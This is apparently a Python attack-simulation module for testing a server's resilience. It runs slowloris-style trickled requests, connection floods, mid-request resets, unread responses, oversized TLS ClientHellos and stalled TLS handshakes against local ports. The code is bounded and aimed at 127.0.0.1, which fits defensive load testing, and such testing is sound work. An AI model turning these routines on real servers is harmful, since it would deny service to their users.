"""What an attacker does to one port, in a process of its own. Each takes (port, source address, seconds, amount) and
ends by itself; each bounds what it holds."""
import os
import select
import socket
import ssl
import subprocess
import sys
import time

# A ClientHello of 130,816 bytes is announced, and 10 bytes of it sent.
LARGE_HELLO = bytes.fromhex("16030140000101ff0003")
UNFINISHED_RECORD = b"\x17\x03\x03\x40\x11" + b"x" * 16000
SLOW_REQUEST = b"GET /livez HTTP/1.1\r\nHost: h\r\nX: " + b"x" * 8000
MAX_HELD = 4200


def start(name, port, source, seconds, amount):
    return subprocess.Popen([sys.executable, __file__, name, str(port), source, str(seconds), str(amount)])


def _connect(port, source):
    connection = socket.socket()
    connection.setblocking(False)
    connection.bind((source, 0))
    connection.connect_ex(("127.0.0.1", port))
    return connection


def _at_a_rate(port, source, seconds, per_second, use, held_seconds=3):
    """Makes new connections at a rate, gives each to `use` once it is established, and holds it for a while."""
    begin = time.monotonic()
    held, fresh, made = [], [], 0
    while (now := time.monotonic()) < begin + seconds:
        while made < (now - begin) * per_second:
            fresh.append(_connect(port, source))
            held.append((now, fresh[-1]))
            made += 1
        fresh = [connection for connection in fresh if connection.fileno() >= 0]
        if use is not None:
            connected = {fd for fd, _ in _poll(fresh, select.POLLOUT)}
            for connection in [connection for connection in fresh if connection.fileno() in connected]:
                use(connection)
                fresh.remove(connection)
        while held and (held[0][0] < now - held_seconds or len(held) > MAX_HELD):
            held.pop(0)[1].close()
        time.sleep(0.002)


def silent(port, source, seconds, per_second):
    _at_a_rate(port, source, seconds, per_second, None)


def garbage(port, source, seconds, per_second):
    _at_a_rate(port, source, seconds, per_second, lambda connection: _send(connection, b"\x00garbage\r\n\r\n" * 5))


def unread(port, source, seconds, per_second):
    """Asks for pages without ever reading one."""
    def use(connection):
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        _send(connection, b"GET /metrics HTTP/1.1\r\nHost: h\r\n\r\n" * 20)
    _at_a_rate(port, source, seconds, per_second, use)


def trickle(port, source, seconds, amount):
    """So many requests at once that come a byte at a time, made anew as the server ends them."""
    begin, sent = time.monotonic(), {}
    while time.monotonic() < begin + seconds:
        while len(sent) < min(amount, MAX_HELD):
            sent[_connect(port, source)] = 0
        for connection in sent:
            _send(connection, SLOW_REQUEST[sent[connection]:sent[connection] + 1])
            sent[connection] += 1
        over = {fd for fd, _ in _poll(sent, select.POLLIN)}
        for connection in [connection for connection in sent if connection.fileno() in over]:
            del sent[connection]
            connection.close()
        time.sleep(0.05)


def answered(port, source, seconds, per_second):
    """Has each connection answered once, and leaves it idle then."""
    _at_a_rate(port, source, seconds, per_second,
               lambda connection: _send(connection, b"GET /livez HTTP/1.1\r\nHost: h\r\n\r\n"), held_seconds=60)


def resets(port, source, seconds, per_second):
    """Ends each connection with a reset in the middle of its request."""
    def use(connection):
        _send(connection, b"GET /livez HTTP/1.1\r\nHo")
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\0\0\0\0\0\0\0")
        connection.close()
    _at_a_rate(port, source, seconds, per_second, use)


def _send(connection, data):
    try:
        connection.send(data)
    except OSError:
        pass


def _hold(connections, seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(0.05)
    for connection in connections:
        connection.close()


def large_hellos(port, source, seconds, amount):
    """So many at once, made anew as the server ends them."""
    begin, fresh, held = time.monotonic(), [], []
    while time.monotonic() < begin + seconds:
        while len(fresh) + len(held) < min(amount, MAX_HELD):
            fresh.append(_connect(port, source))
        connected = {fd for fd, _ in _poll(fresh, select.POLLOUT)}
        for connection in fresh:
            if connection.fileno() in connected:
                _send(connection, LARGE_HELLO)
        held += [connection for connection in fresh if connection.fileno() in connected]
        fresh = [connection for connection in fresh if connection.fileno() not in connected]
        over = {fd for fd, _ in _poll(held, select.POLLIN)}
        for connection in [connection for connection in held if connection.fileno() in over]:
            held.remove(connection)
            connection.close()
        time.sleep(0.05)


def _poll(connections, events):
    poll = select.poll()
    for connection in connections:
        poll.register(connection, events)
    return poll.poll(0)


def _handshake(port, source):
    """A socket, and TLS over it that is done by hand, so that what follows need not be records."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing)
    while True:
        try:
            tls.do_handshake()
            connection.sendall(outgoing.read())
            return connection
        except ssl.SSLWantReadError:
            connection.sendall(outgoing.read())
            received = connection.recv(65536)
            if not received:
                raise ConnectionError("the server ended the handshake") from None
            incoming.write(received)


def unfinished_records(port, source, seconds, amount):
    begin, held = time.monotonic(), []
    while len(held) < amount and time.monotonic() < begin + seconds * 3:
        try:
            connection = _handshake(port, source)
            connection.sendall(UNFINISHED_RECORD)
            held.append(connection)
        except OSError:
            pass
    _hold(held, seconds)


def _hello():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def hellos(port, source, seconds, per_second):
    """Handshakes of which each costs the server its flight, for as long as the attack lasts."""
    hello = _hello()
    _at_a_rate(port, source, seconds, per_second, lambda connection: _send(connection, hello))


def unfinished_handshakes(port, source, seconds, amount):
    """The server's flight is awaited, and never answered; all of them as fast as it goes."""
    begin, held, hello = time.monotonic(), [], _hello()
    while len(held) < amount and time.monotonic() < begin + seconds * 3:
        try:
            connection = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0))
            connection.sendall(hello)
            held.append(connection)
        except OSError:
            pass
    _hold(held, seconds)


if __name__ == "__main__":
    os.nice(5)  # an attacker has a machine of its own
    name, port, source, seconds, amount = sys.argv[1:]
    globals()[name](int(port), source, float(seconds), float(amount))
